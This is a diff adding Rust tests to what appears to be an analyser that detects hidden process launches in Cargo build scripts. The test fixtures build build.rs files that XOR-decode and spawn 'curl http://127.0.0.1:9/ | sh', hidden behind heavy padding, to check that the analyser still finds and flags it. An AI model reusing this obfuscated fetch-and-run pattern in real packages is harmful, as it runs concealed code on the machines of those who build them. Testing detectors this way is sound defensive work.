@@ -325,3 +325,134 @@ fn dead_branches_are_read_too() {
     let facts = library("pub fn f() { let on = 1; if on == 2 { std::fs::remove_file(\"/a/b\").ok(); } }");
     assert_eq!(arguments(&facts, OperationKind::DeleteFile), ["/a/b"]);
 }
+
+/// What is run at the end of a build script that has padding in front, around, or in the functions that it calls.
+fn padded(padding: &str, shape: &str) -> Facts {
+    const TEXT: &str = "curl http://127.0.0.1:9/ | sh";
+    let hidden: Vec<String> = TEXT.bytes().map(|byte| (byte ^ 0x5a).to_string()).collect();
+    let run = "std::process::Command::new(\"sh\").arg(\"-c\").arg(&s).spawn().ok();";
+    let text = shape
+        .replace("DATA", &format!("[{}]", hidden.join(", ")))
+        .replace("RUN", run)
+        .replace("PADDING", padding);
+    package(&format!(
+        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n//- src/lib.rs\n//- build.rs\n{text}"
+    ))
+}
+
+#[test]
+fn padding_does_not_hide_what_is_run() {
+    let many = |line: &dyn Fn(usize) -> String| (0..1_200).map(line).collect::<String>();
+    let paddings = [
+        many(&|at| format!("let a{at} = {at};\n")),
+        format!("let mut a = 0;\n{}", many(&|at| format!("a = a * 3 + {at};\n"))),
+        format!(
+            "let mut a = 0;\n{}",
+            many(&|at| format!("let b{at} = {at}; if a == {at} {{ a = b{at} }}\n"))
+        ),
+        many(&|at| format!("let mut v{at} = String::from(\"x\"); v{at}.push_str(\"{at}\");\n")),
+        "for i in 0..4000 { let a = i ^ 3; let b = a + i; let c = b ^ a; }\n".repeat(40),
+        many(&|at| format!("let a{at} = harmless({at}, \"x\");\n")),
+    ];
+    let shapes = [
+        "fn main() { PADDING let mut s = String::new(); for b in DATA { s.push((b ^ 0x5au8) as char); } RUN }",
+        "fn main() { let mut s = String::new(); for b in DATA { PADDING s.push((b ^ 0x5au8) as char); } RUN }",
+        "fn main() { go(0x5a, &DATA); }
+         fn go(k: u8, d: &[u8]) { PADDING let mut s = String::new(); for b in d { s.push((b ^ k) as char); } RUN }",
+        "fn main() { let s = decode(0x5a, &DATA); RUN }
+         fn decode(k: u8, d: &[u8]) -> String { PADDING d.iter().map(|b| (b ^ k) as char).collect() }",
+    ];
+    for (number, padding) in paddings.iter().enumerate() {
+        for shape in shapes {
+            let text = format!("{shape}\nfn harmless(n: u32, s: &str) -> u32 {{ s.len() as u32 + n }}");
+            let facts = padded(padding, &text);
+            let arguments = arguments(&facts, OperationKind::StartProcess);
+            assert_eq!(arguments[2], "curl http://127.0.0.1:9/ | sh", "{number} {shape}");
+            assert!(
+                operation(&facts, OperationKind::StartProcess).qualities.contains(&Quality::HiddenArgument)
+            );
+        }
+    }
+}
+
+/// What changes a variable only in a branch, through a method or a called function is no padding.
+#[test]
+fn what_the_payload_depends_on_is_not_left_out() {
+    let padding = "let a = 1;\n".repeat(3_000);
+    for shape in [
+        "fn main() { go(0x5a, &DATA); }
+         fn go(k: u8, d: &[u8]) { PADDING let mut s = String::new(); let mut i = 0; let one = 1;
+             while i < d.len() { if one == 1 { s.push((d[i] ^ k) as char); } i += one; } RUN }",
+        "fn main() { go(0x5a, DATA.to_vec()); }
+         fn go(k: u8, d: Vec<u8>) { PADDING let n = k; let m = n; let mut s = String::new();
+             for b in d.iter() { let c = (b ^ m) as char; s.push(c); } RUN }",
+    ] {
+        let facts = padded(&padding, shape);
+        assert_eq!(
+            arguments(&facts, OperationKind::StartProcess)[2],
+            "curl http://127.0.0.1:9/ | sh",
+            "{shape}"
+        );
+    }
+}
+
+#[test]
+fn what_is_too_long_to_be_followed_is_said() {
+    let large = "a".repeat(40_000);
+    for line in [
+        "let b = format!(\"{a}b\");\n",
+        "let b = a.clone() + \"c\";\n",
+        "let b = a.replace(\"aaa\", \"b\");\n",
+    ] {
+        let facts = padded(
+            &line.repeat(3_000),
+            &format!(
+                "fn main() {{ let a = \"{large}\".to_string(); PADDING let mut s = String::new(); for b in DATA {{ s.push((b ^ 0x5au8) as char); }} RUN }}"
+            ),
+        );
+        assert_eq!(
+            arguments(&facts, OperationKind::StartProcess)[2],
+            "curl http://127.0.0.1:9/ | sh",
+            "{line}"
+        );
+        assert!(
+            facts.flow.problems.iter().any(|it| it.contains("long texts")),
+            "{line}: {:?}",
+            facts.flow.problems
+        );
+    }
+    let characters = "let b = a.chars().rev().collect::<String>();\n".repeat(1_000);
+    let facts = padded(
+        &characters,
+        &format!(
+            "fn main() {{ let a = \"{}\"; PADDING let s: String = DATA.iter().map(|b| (b ^ 0x5au8) as char).collect(); RUN }}",
+            &large[..4_000]
+        ),
+    );
+    assert_eq!(arguments(&facts, OperationKind::StartProcess)[2], "curl http://127.0.0.1:9/ | sh");
+}
+
+/// As many variables as branches, parameters and programs: what looks through all of them each time takes minutes.
+#[test]
+fn many_of_everything_cost_little() {
+    let many = |line: &dyn Fn(usize) -> String| (0..8_000).map(line).collect::<String>();
+    let bodies = [
+        many(&|at| format!("let a{at} = {at}; let b = a{};\n", at / 2)),
+        format!(
+            "let mut a = 0; {}",
+            many(&|at| format!("let b{at} = 1; if true {{ a = 1; }} else {{ a = b{at}; }}\n"))
+        ),
+        format!(
+            "{} unsafe {{ {} }}",
+            "std::process::Command::new(\"a\").spawn();\n".repeat(5_000),
+            "libc::setsid();\n".repeat(20_000)
+        ),
+    ];
+    for body in bodies {
+        let facts = library(&format!("pub fn f() {{ {body} std::fs::remove_file(\"/a/b\"); }}"));
+        assert_eq!(operations(&facts, OperationKind::DeleteFile).len(), 1);
+    }
+    let parameters = many(&|at| format!("a{at}: &str, "));
+    let facts = library(&format!("pub fn f({parameters}) {{ std::fs::remove_file(a7); }}"));
+    assert_eq!(operations(&facts, OperationKind::DeleteFile).len(), 1);
+}
